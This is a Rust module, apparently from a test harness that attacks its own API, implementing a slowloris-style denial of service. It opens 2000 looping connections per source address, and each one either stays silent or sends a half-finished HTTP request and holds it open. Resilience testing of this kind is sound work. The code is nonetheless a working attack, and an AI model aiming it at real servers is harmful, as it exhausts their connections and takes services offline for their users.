//! Connections that say nothing, or begin a request and never end it.

use std::net::SocketAddr;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpSocket;
use tokio::task::JoinSet;

use super::{Attacker, pause};

/// Connections from each address.
const CONNECTIONS: usize = 2000;

pub fn begin(attacker: &Attacker, attackers: &mut JoinSet<()>) {
    for n in 0..CONNECTIONS {
        let attacker = attacker.clone();
        attackers.spawn(async move {
            pause(n as u64 % 1000).await;
            loop {
                // Closed, or not let in: again.
                let _ = sit(&attacker, n.is_multiple_of(2)).await;
                pause(1000).await;
            }
        });
    }
}

async fn sit(attacker: &Attacker, silent: bool) -> std::io::Result<()> {
    let base = attacker.api.base().trim_start_matches("http://");
    let server: SocketAddr = base.parse().map_err(std::io::Error::other)?;
    let socket = TcpSocket::new_v4()?;
    socket.bind((attacker.address, 0).into())?;
    let mut stream = socket.connect(server).await?;
    attacker.did();
    if !silent {
        stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-Half: ").await?;
    }
    stream.read(&mut [0; 64]).await.map(drop)
}
